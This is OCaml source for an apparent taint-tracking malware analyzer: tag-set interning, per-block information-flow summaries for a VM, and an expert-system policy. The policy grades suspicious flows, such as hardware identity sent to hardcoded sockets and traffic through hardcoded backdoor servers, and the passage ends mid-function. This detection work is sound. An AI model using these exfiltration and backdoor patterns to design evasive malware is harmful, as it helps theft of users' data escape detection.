let fold f t acc = S.fold f t.set acc

let has_user_input t = S.mem User_input t.set
let has_hardware t = S.mem Hardware t.set

let select f t =
  S.fold (fun s acc -> match f s with Some x -> x :: acc | None -> acc) t.set []

let binaries t =
  select (function Source.Binary n -> Some n | _ -> None) t |> List.rev

let files t =
  select (function Source.File n -> Some n | _ -> None) t |> List.rev

let sockets t =
  select (function Source.Socket n -> Some n | _ -> None) t |> List.rev

let pp ppf t =
  Fmt.pf ppf "@[<h>{%a}@]" Fmt.(list ~sep:(any ", ") Source.pp) (to_list t)

let to_string = Fmt.to_to_string pp
