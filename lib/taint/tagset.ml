(* Hash-consed tag sets.

   Every distinct set of sources is interned exactly once into a node
   carrying a unique integer id, so [equal]/[compare] are id (indeed
   pointer) comparisons and [is_empty] is a pointer check against the
   interned empty node.  A memoized binary-union cache keyed on id pairs
   makes the union-per-instruction performed by [Harrier.Dataflow.step]
   allocation-free on the (overwhelmingly common) repeated-operand case.

   The intern and memo tables live in an explicit [space] rather than in
   process globals: a session that wants byte-reproducible statistics
   creates a fresh space, while a corpus run that wants maximum cache
   warmth can share one space across sessions.  The only process-global
   value is the canonical [empty] node (id 0), which is immutable and
   pre-seeded into every space, so [is_empty]/[equal] stay pointer
   checks and [empty] needs no space in hand.  Tag sets from different
   spaces must not be mixed in one computation: contents stay correct,
   but pointer equality only holds within a space. *)

module S = Set.Make (Source)

type t = { id : int; set : S.t }

(* Intern table, keyed by the canonical (sorted, deduplicated) element
   list of the set. *)
module Key = struct
  type t = Source.t list

  let equal = List.equal (fun a b -> Source.compare a b = 0)
  let hash = Hashtbl.hash
end

module Intern = Hashtbl.Make (Key)

(* Binary-union memo: a direct-mapped cache keyed on the (ordered) id
   pair packed into one int, so a hit is an array read plus an integer
   compare — no hashing, no allocation.  Ids are dense and small, so
   the packing is injective in practice; collisions just overwrite the
   slot and recompute later. *)
let memo_bits = 14
let memo_mask = (1 lsl memo_bits) - 1

type space = {
  intern_tbl : t Intern.t;
  mutable next_id : int;
  singleton_tbl : (Source.t, t) Hashtbl.t;
  memo_keys : int array;
  memo_vals : t array;
}

(* The canonical empty node, shared by every space.  Immutable; id 0 is
   reserved for it (spaces allocate ids from 1). *)
let empty = { id = 0; set = S.empty }

let c_intern_hits = Obs.Counter.make "taint.intern.hits"
let c_intern_misses = Obs.Counter.make "taint.intern.misses"
let c_memo_hits = Obs.Counter.make "taint.union_memo.hits"
let c_memo_misses = Obs.Counter.make "taint.union_memo.misses"

let make_space () =
  let sp =
    { intern_tbl = Intern.create 509;
      next_id = 1;
      singleton_tbl = Hashtbl.create 64;
      memo_keys = Array.make (1 lsl memo_bits) (-1);
      memo_vals = Array.make (1 lsl memo_bits) empty }
  in
  Intern.add sp.intern_tbl [] empty;
  sp

(* Return a space to the freshly-created state.  Only [memo_keys] needs
   refilling: a packed id pair is never [-1], so clearing the keys makes
   every stale [memo_vals] entry unreachable without touching the boxed
   array (new unions overwrite slots as they miss).  A reset space is
   indistinguishable from [make_space ()] — same interning decisions,
   same cache counters — which lets an engine pool spaces across
   sessions without perturbing per-run statistics. *)
let reset_space sp =
  Intern.reset sp.intern_tbl;
  Hashtbl.reset sp.singleton_tbl;
  sp.next_id <- 1;
  Array.fill sp.memo_keys 0 (Array.length sp.memo_keys) (-1);
  (* also drop the stale values: a pooled space must not keep the
     previous session's tag sets (and their element sets) alive *)
  Array.fill sp.memo_vals 0 (Array.length sp.memo_vals) empty;
  Intern.add sp.intern_tbl [] empty

let intern sp set =
  let key = S.elements set in
  match Intern.find_opt sp.intern_tbl key with
  | Some t ->
    Obs.Counter.incr c_intern_hits;
    t
  | None ->
    Obs.Counter.incr c_intern_misses;
    let t = { id = sp.next_id; set } in
    sp.next_id <- sp.next_id + 1;
    Intern.add sp.intern_tbl key t;
    t

let interned_count sp = sp.next_id

let[@inline] is_empty t = t == empty

let[@inline] id t = t.id

(* Interning makes structural equality pointer equality. *)
let[@inline] equal a b = a == b

let[@inline] compare a b = Int.compare a.id b.id

let singleton sp s =
  match Hashtbl.find_opt sp.singleton_tbl s with
  | Some t -> t
  | None ->
    let t = intern sp (S.singleton s) in
    Hashtbl.add sp.singleton_tbl s t;
    t

let of_list sp l = intern sp (S.of_list l)

let to_list t = S.elements t.set

let add sp s t = if S.mem s t.set then t else intern sp (S.add s t.set)

let union sp a b =
  if a == b then a
  else if a == empty then b
  else if b == empty then a
  else begin
    let packed =
      if a.id < b.id then (a.id lsl 31) lor b.id else (b.id lsl 31) lor a.id
    in
    (* low bits hold one id, bits 31+ the other; fold them together *)
    let h = (packed lxor (packed lsr 29)) land memo_mask in
    if sp.memo_keys.(h) = packed then begin
      Obs.Counter.incr c_memo_hits;
      sp.memo_vals.(h)
    end
    else begin
      Obs.Counter.incr c_memo_misses;
      let r = intern sp (S.union a.set b.set) in
      sp.memo_keys.(h) <- packed;
      sp.memo_vals.(h) <- r;
      r
    end
  end

let mem s t = S.mem s t.set
let cardinal t = S.cardinal t.set
let exists p t = S.exists p t.set

let filter sp p t =
  let set = S.filter p t.set in
  if set == t.set then t else intern sp set

let fold f t acc = S.fold f t.set acc

let has_user_input t = S.mem User_input t.set
let has_hardware t = S.mem Hardware t.set

let select f t =
  S.fold (fun s acc -> match f s with Some x -> x :: acc | None -> acc) t.set []

let binaries t =
  select (function Source.Binary n -> Some n | _ -> None) t |> List.rev

let files t =
  select (function Source.File n -> Some n | _ -> None) t |> List.rev

let sockets t =
  select (function Source.Socket n -> Some n | _ -> None) t |> List.rev

let pp ppf t =
  Fmt.pf ppf "@[<h>{%a}@]" Fmt.(list ~sep:(any ", ") Source.pp) (to_list t)

let to_string = Fmt.to_to_string pp
