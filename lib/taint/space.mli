(** A taint hash-consing arena.

    Holds the intern table, singleton cache and binary-union memo used
    by every allocating {!Tagset} operation.  Sessions that need
    byte-reproducible cache statistics create a fresh space each run;
    corpus drivers that prefer warm caches can share one space across
    sessions (trading reproducibility of the [taint.*] counters).

    Tag sets from different spaces must never be mixed in one
    computation: contents stay correct, but pointer equality (and the
    union memo) only hold within a space. *)

type t = Tagset.space

(** A fresh, empty space.  [Tagset.empty] is pre-seeded (id 0); new tag
    sets are interned from id 1 up, deterministically in creation
    order. *)
val create : unit -> t

(** Number of distinct tag sets interned so far, including the empty
    node (diagnostics). *)
val interned : t -> int

(** [reset sp] returns [sp] to the freshly-created state — identical
    interning decisions and cache counters to a new space, so pools can
    recycle spaces.  Tag sets interned before the reset stay valid for
    read-only use but must not be mixed with post-reset tags. *)
val reset : t -> unit
