type t = Tagset.space

let create () = Tagset.make_space ()
let interned = Tagset.interned_count
let reset = Tagset.reset_space
