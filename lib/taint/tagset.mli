(** Sets of data sources.

    A tag is the set of data sources that contributed to a value.  Data
    producing instructions assign the destination the {e union} of the
    sources of their operands (Section 7.3.1): after [add %ebx, %eax] the
    tag of [%eax] is the union of the tags of [%ebx] and [%eax].

    Tag sets are hash-consed inside an explicit {!space} holding the
    intern and union-memo tables.  Allocating operations take the space
    as their first argument; read-only interrogations need none.  Tag
    sets created in different spaces must not be mixed in one
    computation: contents stay correct, but [equal] (pointer equality)
    only holds within a space. *)

type t

(** A hash-consing arena: intern table, singleton cache, and
    binary-union memo.  Create one per session for byte-reproducible
    cache statistics, or share one across sessions for warmth.  See
    {!Space} for the public constructor. *)
type space

(** A fresh, empty space (the canonical {!empty} node is pre-seeded). *)
val make_space : unit -> space

(** [reset_space sp] returns [sp] to the freshly-created state: interning
    decisions and cache counters after a reset are identical to those of
    a new space, so pools can recycle spaces without perturbing per-run
    statistics.  Tag sets interned before the reset remain valid for
    read-only interrogation, but must not be mixed with post-reset tags
    (the usual cross-space rule). *)
val reset_space : space -> unit

(** The empty tag: a value with no known external provenance.  A single
    immutable node shared by every space. *)
val empty : t

val is_empty : t -> bool

val singleton : space -> Source.t -> t

val of_list : space -> Source.t list -> t

val to_list : t -> Source.t list

val add : space -> Source.t -> t -> t

(** [union sp a b] combines provenance, as performed by every
    data-producing instruction on its operand tags. *)
val union : space -> t -> t -> t

val mem : Source.t -> t -> bool

(** Constant time: tag sets are hash-consed, so equality is a pointer
    comparison (within one space). *)
val equal : t -> t -> bool

(** A total order consistent with [equal] (the interning order), for use
    as a dictionary key.  Constant time; {e not} the subset order. *)
val compare : t -> t -> int

(** [id t] is the unique intern identifier of [t] within its space.
    [id a = id b] iff [equal a b], for tags of the same space. *)
val id : t -> int

(** Number of distinct tag sets interned in the space so far, including
    the pre-seeded empty node (diagnostics). *)
val interned_count : space -> int

val cardinal : t -> int

(** [exists p t] is true iff some source in [t] satisfies [p]. *)
val exists : (Source.t -> bool) -> t -> bool

val filter : space -> (Source.t -> bool) -> t -> t

val fold : (Source.t -> 'a -> 'a) -> t -> 'a -> 'a

(** Convenience interrogations used throughout the policy. *)

val has_user_input : t -> bool

val has_hardware : t -> bool

(** [binaries t] is the list of image names appearing as BINARY sources. *)
val binaries : t -> string list

(** [files t] is the list of file names appearing as FILE sources. *)
val files : t -> string list

(** [sockets t] is the list of peer addresses appearing as SOCKET
    sources. *)
val sockets : t -> string list

val pp : Format.formatter -> t -> unit

val to_string : t -> string
