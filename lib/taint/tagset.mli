(** Sets of data sources.

    A tag is the set of data sources that contributed to a value.  Data
    producing instructions assign the destination the {e union} of the
    sources of their operands (Section 7.3.1): after [add %ebx, %eax] the
    tag of [%eax] is the union of the tags of [%ebx] and [%eax]. *)

type t

(** The empty tag: a value with no known external provenance. *)
val empty : t

val is_empty : t -> bool

val singleton : Source.t -> t

val of_list : Source.t list -> t

val to_list : t -> Source.t list

val add : Source.t -> t -> t

(** [union a b] combines provenance, as performed by every data-producing
    instruction on its operand tags. *)
val union : t -> t -> t

val mem : Source.t -> t -> bool

(** Constant time: tag sets are hash-consed, so equality is a pointer
    comparison. *)
val equal : t -> t -> bool

(** A total order consistent with [equal] (the interning order), for use
    as a dictionary key.  Constant time; {e not} the subset order. *)
val compare : t -> t -> int

(** [id t] is the unique intern identifier of [t].  [id a = id b] iff
    [equal a b]. *)
val id : t -> int

(** Number of distinct tag sets interned so far (diagnostics). *)
val interned_count : unit -> int

val cardinal : t -> int

(** [exists p t] is true iff some source in [t] satisfies [p]. *)
val exists : (Source.t -> bool) -> t -> bool

val filter : (Source.t -> bool) -> t -> t

val fold : (Source.t -> 'a -> 'a) -> t -> 'a -> 'a

(** Convenience interrogations used throughout the policy. *)

val has_user_input : t -> bool

val has_hardware : t -> bool

(** [binaries t] is the list of image names appearing as BINARY sources. *)
val binaries : t -> string list

(** [files t] is the list of file names appearing as FILE sources. *)
val files : t -> string list

(** [sockets t] is the list of peer addresses appearing as SOCKET
    sources. *)
val sockets : t -> string list

val pp : Format.formatter -> t -> unit

val to_string : t -> string
