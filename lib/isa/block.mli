(** Decoded basic blocks for the tiered VM.

    A {e body} is a maximal straight-line run of instructions that can
    execute without control transfer, kernel trap, or interpreter
    special-casing; the terminating instruction (jump, call, [int],
    [div], …) always stays with the interpreter.  {!body_lens} is pure
    syntax analysis, computed once per image and shared by every
    machine mapping it.

    {!analyze} lifts the per-instruction Section 7.3.1 taint rules to a
    per-block transfer summary ({!flow}) expressed over block-entry
    state, so a dataflow monitor can apply one fused update per hot
    block instead of per-instruction shadow operations.  Blocks whose
    flow the affine analysis cannot capture exactly return [None] and
    remain interpreted — precision is never traded for speed. *)

(** Compiled-body length cap. *)
val max_body : int

(** [body_safe i] is true when [i] may appear inside a compiled body. *)
val body_safe : Insn.t -> bool

(** [body_lens text].(i) is the straight-line body length starting at
    instruction [i] (0 when [text.(i)] itself is a terminator), capped
    at {!max_body}. *)
val body_lens : Insn.t array -> int array

(** Affine expression [disp + Σ coef·entry_reg] over block-entry
    register values; coefficients sorted by register index, zeroes
    dropped. *)
type avalue = {
  av_coefs : (Reg.t * int) list;
  av_disp : int;
}

(** Taint over block-entry state: union of entry registers' tags, entry
    memory ranges' tags, the image's constant provenance ([x_imm]) and
    the hardware-identity singleton ([x_hw]). *)
type texpr = {
  x_regs : Reg.t list;
  x_mems : (avalue * int) list;
  x_imm : bool;
  x_hw : bool;
}

type write =
  | W_reg of Reg.t * texpr
  | W_mem of avalue * int * texpr

(** Block taint transfer summary. *)
type flow = {
  f_addrs : (avalue * int) list;
      (** every memory range the body touches — the bounds
          precondition a runtime application must re-check *)
  f_writes : write list;  (** program order; later writes win *)
  f_guards : texpr list;
      (** compare/test operand flow in program order; the last one
          evaluating non-empty becomes the block's guard tag *)
}

(** [analyze text ~pos ~len] summarizes the body
    [text.(pos) .. text.(pos+len-1)] (which must satisfy
    [len <= (body_lens text).(pos)]), or [None] when its flow cannot
    be captured exactly. *)
val analyze : Insn.t array -> pos:int -> len:int -> flow option
