(* Decoded basic blocks: straight-line body lengths for the tiered VM
   and the per-block information-flow transfer summaries (the Section
   7.3.1 rules lifted from one instruction to one block).

   Everything here is pure syntax analysis over the instruction array:
   no machine, no shadow, no taint arena.  A [flow] describes the
   block's taint transfer relative to its *entry* state — which entry
   registers / entry memory ranges / constant provenance feed each
   written location — so a monitor can replay the whole block's shadow
   effect as one summary application.  Addresses are affine expressions
   over entry register values; anything the analysis cannot prove
   (non-affine address, a read that may alias an earlier in-block
   write) makes the block unsummarizable and it stays interpreted. *)

(* Bodies are capped so one fast-path dispatch cannot swallow an
   arbitrary slice of a scheduling quantum; runs longer than the cap
   split into cap-sized windows. *)
let max_body = 48

let dst_ok (op : Operand.t) =
  match op with Imm _ -> false | Reg _ | Mem _ -> true

(* Body-safe: executes in a straight line (no control transfer, no
   trap to the kernel), cannot raise the interpreter's special-cased
   [Div_by_zero], and has a well-formed destination (a write to an
   immediate raises a plain [Failure], which the step loop does not
   catch — such an instruction must never enter a compiled body). *)
let body_safe (i : Insn.t) =
  match i with
  | Mov (_, dst, _) -> dst_ok dst
  | Add (d, _) | Sub (d, _) | And (d, _) | Or (d, _) | Xor (d, _)
  | Mul (d, _) | Shl (d, _) | Shr (d, _) -> dst_ok d
  | Inc d | Dec d | Pop d -> dst_ok d
  | Lea _ | Cmp _ | Test _ | Push _ | Cpuid | Nop -> true
  | Div _ -> false
  | Jmp _ | Jcc _ | Call _ | Ret | Int _ | Hlt -> false

(* [body_lens text].(i) is the number of consecutive body-safe
   instructions starting at [i] (0 when [text.(i)] itself terminates a
   block), capped at {!max_body}.  One reverse pass; the table is
   invariant under linking because relocation patching preserves every
   instruction's constructor shape. *)
let body_lens text =
  let n = Array.length text in
  let lens = Array.make n 0 in
  for i = n - 1 downto 0 do
    if body_safe text.(i) then
      lens.(i) <-
        (if i = n - 1 then 1 else min max_body (1 + lens.(i + 1)))
  done;
  lens

(* ------------------------------------------------------------------ *)
(* Affine address expressions over entry register values               *)

(* disp + sum coef*entry_reg, coefficient list sorted by register index
   with zero coefficients dropped, so structural equality is canonical
   equality. *)
type avalue = {
  av_coefs : (Reg.t * int) list;
  av_disp : int;
}

let const n = { av_coefs = []; av_disp = n }

let of_reg r = { av_coefs = [ (r, 1) ]; av_disp = 0 }

let av_add2 k a b =
  (* a + k*b, merging sorted coefficient lists *)
  let rec merge xs ys =
    match xs, ys with
    | [], ys -> List.filter_map (fun (r, c) -> scaled r c) ys
    | xs, [] -> xs
    | (rx, cx) :: xs', (ry, cy) :: ys' ->
      let ix = Reg.index rx and iy = Reg.index ry in
      if ix < iy then (rx, cx) :: merge xs' ys
      else if iy < ix then (
        match scaled ry cy with
        | Some p -> p :: merge xs ys'
        | None -> merge xs ys')
      else
        let c = cx + (k * cy) in
        if c = 0 then merge xs' ys' else (rx, c) :: merge xs' ys'
  and scaled r c = if k * c = 0 then None else Some (r, k * c) in
  { av_coefs = merge a.av_coefs b.av_coefs;
    av_disp = a.av_disp + (k * b.av_disp) }

let av_add a b = av_add2 1 a b
let av_sub a b = av_add2 (-1) a b
let av_offset a n = { a with av_disp = a.av_disp + n }

let same_coefs a b =
  let rec eq xs ys =
    match xs, ys with
    | [], [] -> true
    | (rx, cx) :: xs', (ry, cy) :: ys' ->
      Reg.index rx = Reg.index ry && cx = cy && eq xs' ys'
    | _, _ -> false
  in
  eq a.av_coefs b.av_coefs

(* ------------------------------------------------------------------ *)
(* Entry-relative taint expressions                                    *)

(* The tag a location will hold, expressed over block-entry state: the
   union of the listed entry registers' tags, the listed entry memory
   ranges' tags, the segment's BINARY tag when [x_imm], and the
   HARDWARE singleton when [x_hw]. *)
type texpr = {
  x_regs : Reg.t list;  (* sorted by index, deduped *)
  x_mems : (avalue * int) list;
  x_imm : bool;
  x_hw : bool;
}

let bottom = { x_regs = []; x_mems = []; x_imm = false; x_hw = false }
let imm_texpr = { bottom with x_imm = true }
let hw_texpr = { bottom with x_hw = true }
let reg_texpr r = { bottom with x_regs = [ r ] }
let mem_texpr av len = { bottom with x_mems = [ (av, len) ] }

let is_bottom t =
  t.x_regs = [] && t.x_mems = [] && (not t.x_imm) && not t.x_hw

let t_union a b =
  let rec merge xs ys =
    match xs, ys with
    | [], ys -> ys
    | xs, [] -> xs
    | x :: xs', y :: ys' ->
      let ix = Reg.index x and iy = Reg.index y in
      if ix < iy then x :: merge xs' ys
      else if iy < ix then y :: merge xs ys'
      else x :: merge xs' ys'
  in
  let mems =
    a.x_mems
    @ List.filter
        (fun (av, len) ->
          not
            (List.exists
               (fun (av', len') -> len = len' && av' = av)
               a.x_mems))
        b.x_mems
  in
  { x_regs = merge a.x_regs b.x_regs;
    x_mems = mems;
    x_imm = a.x_imm || b.x_imm;
    x_hw = a.x_hw || b.x_hw }

(* ------------------------------------------------------------------ *)
(* The block transfer summary                                          *)

type write =
  | W_reg of Reg.t * texpr
  | W_mem of avalue * int * texpr

type flow = {
  f_addrs : (avalue * int) list;
      (* every memory range the body touches (machine accesses and
         shadow ranges coincide for summarizable bodies): the bounds
         precondition a runtime application must check before applying *)
  f_writes : write list;  (* program order — later writes win *)
  f_guards : texpr list;
      (* Cmp/Test operand flow, program order; at application the last
         one evaluating non-empty becomes the new guard tag *)
}

(* Analysis state: per-register affine value (for address computation)
   and per-register entry-relative taint expression, plus the list of
   in-block memory writes for read-after-write resolution. *)
type state = {
  vals : avalue option array;  (* indexed by Reg.index *)
  tex : texpr array;
  mutable writes : (avalue * int * texpr) list;  (* latest first *)
  mutable wlist : write list;  (* program order, reversed *)
  mutable guards : texpr list;  (* reversed *)
  mutable addrs : (avalue * int) list;
}

exception Unsummarizable

let size_bytes = function Insn.B -> 1 | Insn.W -> 4

let init_state () =
  { vals = Array.init Reg.count (fun i -> Some (of_reg (Reg.of_index i)));
    tex = Array.init Reg.count (fun i -> reg_texpr (Reg.of_index i));
    writes = [];
    wlist = [];
    guards = [];
    addrs = [] }

let reg_val st r =
  match st.vals.(Reg.index r) with
  | Some v -> v
  | None -> raise Unsummarizable

let set_val st r v = st.vals.(Reg.index r) <- v

(* Effective address of a memory reference, as an affine expression
   over entry registers (pre-instruction register state). *)
let aval_of_ref st (m : Operand.mem_ref) =
  let base =
    match m.base with Some r -> reg_val st r | None -> const 0
  in
  let a =
    match m.index with
    | Some r -> av_add base (av_add2 m.scale (const 0) (reg_val st r))
    | None -> base
  in
  av_offset a m.disp

let note_addr st av len = st.addrs <- (av, len) :: st.addrs

(* Resolve a memory read against the in-block writes, latest first:
   exact match takes the written expression; provable disjointness
   skips; anything else (partial overlap, unprovably distinct bases)
   makes the block unsummarizable.  Falls through to the entry range. *)
let mem_read st av len =
  note_addr st av len;
  let rec resolve = function
    | [] -> mem_texpr av len
    | (wav, wlen, wtex) :: rest ->
      if same_coefs av wav then
        if av.av_disp = wav.av_disp && len = wlen then wtex
        else if
          av.av_disp + len <= wav.av_disp
          || wav.av_disp + wlen <= av.av_disp
        then resolve rest
        else raise Unsummarizable
      else raise Unsummarizable
  in
  resolve st.writes

let mem_write st av len tex =
  note_addr st av len;
  st.writes <- (av, len, tex) :: st.writes;
  st.wlist <- W_mem (av, len, tex) :: st.wlist

let reg_write st r tex =
  st.tex.(Reg.index r) <- tex;
  st.wlist <- W_reg (r, tex) :: st.wlist

(* Operand taint at the current program point — the [Dataflow]
   operand_tag rule with immediates mapping to the segment tag. *)
let op_texpr st sz (op : Operand.t) =
  match op with
  | Imm _ -> imm_texpr
  | Reg r -> st.tex.(Reg.index r)
  | Mem m -> mem_read st (aval_of_ref st m) (size_bytes sz)

(* Same, but immediates contribute nothing: the guard rule deliberately
   ignores direct immediates (only {e data} taint reaching a compare
   marks trigger-gated flow); taint that an earlier in-block move
   planted in a register still flows through [st.tex]. *)
let guard_texpr st sz (op : Operand.t) =
  match op with
  | Imm _ -> bottom
  | Reg r -> st.tex.(Reg.index r)
  | Mem m -> mem_read st (aval_of_ref st m) (size_bytes sz)

let write_op st sz (op : Operand.t) tex =
  match op with
  | Imm _ -> raise Unsummarizable
  | Reg r -> reg_write st r tex
  | Mem m -> mem_write st (aval_of_ref st m) (size_bytes sz) tex

(* Affine tracking of register {e values} across the instruction, after
   its taint transfer was recorded (all address evaluation above used
   the pre-instruction state, matching the pre-execution hook). *)
let val_of_operand st (op : Operand.t) =
  match op with
  | Imm n -> Some (const n)
  | Reg r -> st.vals.(Reg.index r)
  | Mem _ -> None

let esp = Reg.ESP

(* cpuid writes fixed identity words (see Vm.Machine.cpuid_values);
   mirrored here so address arithmetic through them stays affine. *)
let cpuid_consts =
  [ (Reg.EAX, 0x756E_6547); (Reg.EBX, 0x4963_6E74); (Reg.ECX, 0x6C65_746E);
    (Reg.EDX, 0x0000_0F4A) ]

let transfer st (insn : Insn.t) =
  match insn with
  | Mov (sz, dst, src) ->
    let t = op_texpr st sz src in
    write_op st sz dst t;
    (match dst, sz with
     | Operand.Reg r, Insn.W -> set_val st r (val_of_operand st src)
     | Operand.Reg r, Insn.B -> set_val st r None  (* zero-extended *)
     | (Operand.Mem _ | Operand.Imm _), _ -> ())
  | Lea (r, m) ->
    let reg_tex = function
      | None -> bottom
      | Some reg -> st.tex.(Reg.index reg)
    in
    let av = aval_of_ref st m in
    reg_write st r
      (t_union imm_texpr (t_union (reg_tex m.base) (reg_tex m.index)));
    set_val st r (Some av)
  | Add (d, s) | Sub (d, s) | And (d, s) | Or (d, s) | Xor (d, s)
  | Mul (d, s) | Shl (d, s) | Shr (d, s) ->
    let t =
      t_union (op_texpr st Insn.W d) (op_texpr st Insn.W s)
    in
    write_op st Insn.W d t;
    (match d with
     | Operand.Reg r ->
       let v =
         match insn, st.vals.(Reg.index r), val_of_operand st s with
         | Add _, Some a, Some b -> Some (av_add a b)
         | Sub _, Some a, Some b -> Some (av_sub a b)
         | _ -> None
       in
       set_val st r v
     | Operand.Mem _ | Operand.Imm _ -> ())
  | Inc d | Dec d ->
    write_op st Insn.W d (t_union (op_texpr st Insn.W d) imm_texpr);
    (match d with
     | Operand.Reg r ->
       let delta = match insn with Inc _ -> 1 | _ -> -1 in
       set_val st r
         (Option.map (fun v -> av_offset v delta) st.vals.(Reg.index r))
     | Operand.Mem _ | Operand.Imm _ -> ())
  | Cmp (sz, a, b) ->
    let g = t_union (guard_texpr st sz a) (guard_texpr st sz b) in
    if not (is_bottom g) then st.guards <- g :: st.guards
  | Test (a, b) ->
    let g =
      t_union (guard_texpr st Insn.W a) (guard_texpr st Insn.W b)
    in
    if not (is_bottom g) then st.guards <- g :: st.guards
  | Push a ->
    let t = op_texpr st Insn.W a in
    let sp = reg_val st esp in
    mem_write st (av_offset sp (-4)) 4 t;
    set_val st esp (Some (av_offset sp (-4)))
  | Pop dst ->
    (* the machine bumps ESP before evaluating a memory destination, so
       an ESP-relative destination would disagree with the shadow rule's
       pre-instruction address — leave such blocks to the interpreter *)
    (match dst with
     | Operand.Mem m
       when m.base = Some Reg.ESP || m.index = Some Reg.ESP ->
       raise Unsummarizable
     | _ -> ());
    let sp = reg_val st esp in
    let t = mem_read st sp 4 in
    write_op st Insn.W dst t;
    (match dst with
     | Operand.Reg r when r <> esp -> set_val st r None
     | _ -> ());
    set_val st esp (Some (av_offset sp 4));
    (match dst with
     | Operand.Reg r when r = esp -> set_val st r None
     | _ -> ())
  | Cpuid ->
    List.iter
      (fun (r, v) ->
        reg_write st r hw_texpr;
        set_val st r (Some (const v)))
      cpuid_consts
  | Nop -> ()
  | Div _ | Jmp _ | Jcc _ | Call _ | Ret | Int _ | Hlt ->
    (* never body-safe *)
    raise Unsummarizable

(* [analyze text ~pos ~len] summarizes the straight-line body
   [text.(pos) .. text.(pos+len-1)] — which must be body-safe, i.e.
   [len <= (body_lens text).(pos)] — or returns [None] when its
   information flow cannot be captured exactly. *)
let analyze text ~pos ~len =
  let st = init_state () in
  match
    for i = pos to pos + len - 1 do
      transfer st text.(i)
    done
  with
  | exception Unsummarizable -> None
  | () ->
    Some
      { f_addrs = List.rev st.addrs;
        f_writes = List.rev st.wlist;
        f_guards = List.rev st.guards }
