type t = EAX | EBX | ECX | EDX | ESI | EDI | EBP | ESP

let count = 8

let[@inline] index = function
  | EAX -> 0
  | EBX -> 1
  | ECX -> 2
  | EDX -> 3
  | ESI -> 4
  | EDI -> 5
  | EBP -> 6
  | ESP -> 7

let all = [ EAX; EBX; ECX; EDX; ESI; EDI; EBP; ESP ]

let of_index i =
  match List.nth_opt all i with
  | Some r -> r
  | None -> invalid_arg "Reg.of_index"

let equal a b = index a = index b

let name = function
  | EAX -> "eax"
  | EBX -> "ebx"
  | ECX -> "ecx"
  | EDX -> "edx"
  | ESI -> "esi"
  | EDI -> "edi"
  | EBP -> "ebp"
  | ESP -> "esp"

let pp ppf r = Fmt.pf ppf "%%%s" (name r)
