(** The complete Secpert policy in textual CLIPS syntax.

    The paper implemented Secpert directly in CLIPS; this module carries
    the same policy as rule text for the {!Expert.Clips} loader, as an
    alternative to the native OCaml rules.  Transfers are matched
    through the flattened encoding ({!Facts.assert_event_full}): one
    [transfer_source] fact per data source, joined to its
    [data_transfer] fact on the [xfer] slot — which exercises the
    engine's multi-pattern joins exactly the way CLIPS policies do.

    Host functions the policy calls (installed by {!install}):
    - [(warn rule severity pid time rare part...)] — emit a warning;
    - [(rarely freq time)] — the Low→Medium reinforcement test;
    - [(trusted-source type name)] — the trust database;
    - [(looks-executable head)] — content analysis.

    Severities agree with the native policy on every corpus scenario
    (verified by the equivalence tests); warning {e texts} are terser. *)

(** The policy source text. *)
val text : string

(** [install engine ctx] registers the host functions, sets the
    threshold globals from [ctx] and loads {!text}. *)
val install : Expert.Engine.t -> Context.t -> unit

(** [compile ()] parses and compiles {!text} once — rule values are
    built eagerly and shared across engines ({!Expert.Clips.compile_forms}).
    @raise Expert.Clips.Error on syntax or defrule problems. *)
val compile : unit -> Expert.Clips.installer list

(** [install_forms engine ctx forms] is {!install} with the policy
    already compiled by {!compile}. *)
val install_forms :
  Expert.Engine.t -> Context.t -> Expert.Clips.installer list -> unit
