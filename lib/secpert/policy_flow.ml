open Expert

(* Severity of one (source, target) combination, following Section 4.3.
   [t_origin] is the origin type of the target's name; for accepted
   connections the listening server's address origin is what makes the
   socket "hardcoded". *)
let name_matrix ~src_origin ~tgt_origin =
  if String.equal src_origin "SOCKET" || String.equal tgt_origin "SOCKET"
  then Some Severity.High
  else
    match String.equal src_origin "BINARY", String.equal tgt_origin "BINARY"
    with
    | true, true -> Some Severity.High
    | true, false | false, true -> Some Severity.Low
    | false, false -> None

let severity_of (s : Facts.source_info) ~target_type ~tgt_origin
    ~server_hardcoded ~server_side =
  let hardcoded_target =
    String.equal tgt_origin "BINARY" || (server_side && server_hardcoded)
  in
  match s.s_type, target_type with
  | "BINARY", "FILE" ->
    (match tgt_origin with
     | "BINARY" | "SOCKET" -> Some Severity.High
     | _ -> None)
  | "BINARY", "SOCKET" ->
    if server_side && server_hardcoded then Some Severity.High
    else if hardcoded_target then Some Severity.Low
    else None
  | ("FILE" | "SOCKET"), ("FILE" | "SOCKET") ->
    let base = name_matrix ~src_origin:s.s_origin_type ~tgt_origin in
    if server_side && server_hardcoded then
      (* any tracked flow through a hardcoded backdoor server is High *)
      Some Severity.High
    else base
  | "HARDWARE", ("FILE" | "SOCKET") ->
    if hardcoded_target then Some Severity.High else None
  | "USER_INPUT", "SOCKET" ->
    if hardcoded_target then Some Severity.Low else None
  | _, _ -> None

let file_target_message (s : Facts.source_info) ~target_name ~tgt_origin
    ~tgt_origin_name =
  let b = Buffer.create 128 in
  Buffer.add_string b (Fmt.str "Found Write call to %s" target_name);
  Buffer.add_string b
    (Fmt.str "\n\tThe Data written to this file is originated from the %s:(%S)"
       s.s_type
       (if s.s_name = "" then s.s_origin_name else s.s_name));
  if String.equal tgt_origin "BINARY" then
    Buffer.add_string b
      (Fmt.str
         "\n\tMoreover, it seems that the name of the file: %s originated \
          from a BINARY: (%S)"
         target_name tgt_origin_name);
  if String.equal tgt_origin "SOCKET" then
    Buffer.add_string b
      (Fmt.str "\n\tMoreover, the name of the file: %s originated from a \
                SOCKET: (%S)"
         target_name tgt_origin_name);
  Buffer.contents b

let socket_target_message (s : Facts.source_info) ~target_name ~tgt_origin
    ~tgt_origin_name ~server =
  let b = Buffer.create 128 in
  Buffer.add_string b
    (Fmt.str "Found Write call Data Flowing From: %s To: %s"
       (if s.s_name = "" then s.s_type else s.s_name)
       target_name);
  (match s.s_type, s.s_origin_type with
   | "FILE", "BINARY" ->
     Buffer.add_string b
       (Fmt.str "\n\tsource filename was hardcoded in: (%S)" s.s_origin_name)
   | "FILE", "SOCKET" ->
     Buffer.add_string b
       (Fmt.str "\n\tsource filename originated from a SOCKET: (%S)"
          s.s_origin_name)
   | _ -> ());
  (match server with
   | Some (server_name, "BINARY", server_oname) ->
     Buffer.add_string b
       (Fmt.str
          "\n\tThis program has opened a socket for remote connections. \
           i.e. it is a server with the address: %s\n\
           \tthe server address was hardcoded in: (%S)"
          server_name server_oname)
   | Some (server_name, _, _) ->
     Buffer.add_string b
